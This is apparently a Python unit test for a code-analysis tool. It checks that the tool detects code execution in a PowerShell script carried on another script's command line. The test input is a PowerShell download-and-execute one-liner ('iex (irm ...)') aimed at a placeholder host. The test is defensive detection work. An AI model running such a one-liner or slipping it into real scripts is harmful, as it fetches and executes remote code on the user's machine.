"""Scripts of PowerShell on the command lines of other scripts."""

from pratique.analysis.facts import Capability
from pratique.analysis.languages.shell.carrying import read_carried
from pratique.analysis.languages.shell.following import Following


def test_what_a_carried_script_does_is_told_at_its_line() -> None:
    reading = Following()
    reading.scripts.append(("iex (irm http://p.invalid)", 7, True))
    read_carried(reading)

    assert (Capability.CODE, 7, 1) in [(flow.sink, flow.line, flow.depth) for flow in reading.done().flows]
